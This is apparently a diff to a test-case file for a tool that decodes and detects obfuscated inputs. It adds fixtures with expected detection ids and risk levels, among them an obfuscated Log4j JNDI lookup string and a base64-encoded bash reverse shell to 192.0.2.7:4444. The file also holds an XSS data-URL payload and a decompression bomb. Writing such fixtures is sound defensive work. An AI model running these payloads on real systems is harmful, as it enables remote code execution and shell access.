@@ -29,6 +29,21 @@ export const decode: ToolCases = {
       risk: 'high',
     },
     {
+      name: 'a look-up that is spelled with variables that do not exist',
+      source: 'GovCERT.ch, Zero-Day Exploit Targeting Popular Java Library Log4j',
+      input:
+        '$' + '{$' + '{env:NaN:-j}ndi$' + '{env:NaN:-:}$' + '{env:NaN:-l}dap$' + '{env:NaN:-:}//192.0.2.7/a}',
+      ids: ['decode.jndi'],
+      risk: 'high',
+    },
+    {
+      name: 'a shell for an address, as Java code has to run it',
+      source: 'ATT&CK T1059.004; jackson_T, Sometimes the payload for Runtime.exec',
+      input: `bash -c {echo,${base64('bash -i >& /dev/tcp/192.0.2.7/4444 0>&1')}}|{base64,-d}|{bash,-i}`,
+      ids: ['decode.layer', 'decode.remote-shell'],
+      risk: 'high',
+    },
+    {
       name: 'a page with a script inside an address',
       source: 'RFC 2397; OWASP, XSS Filter Evasion Cheat Sheet',
       input: `data:text/html;base64,${base64("<script>alert('XSS')</script>")}`,
@@ -46,7 +61,7 @@ export const decode: ToolCases = {
       name: 'four mebibytes of zeros in a few kilobytes',
       source: 'CWE-409',
       input: gzipSync(Buffer.alloc(4 << 20)).toString('base64'),
-      ids: ['decode.bomb', 'decode.layer'],
+      ids: ['decode.bomb'],
       risk: 'high',
     },
   ],
@@ -63,6 +78,15 @@ export const decode: ToolCases = {
       source: 'URL Standard, application/x-www-form-urlencoded',
       input: 'name=J%C3%BCrgen+M%C3%BCller&city=K%C3%B6ln',
       ids: ['decode.layer'],
+      risk: 'none',
+    },
+    {
+      name: 'a long address without anything encoded',
+      source: 'RFC 4648, 4 and 5: no alphabet has slashes and hyphens',
+      input:
+        'https://learn.example.com/en-us/windows-server/administration/windows-commands/introduction/overview/' +
+        'of-all-commands/in-alphabetical-order',
+      ids: [],
       risk: 'none',
     },
     {
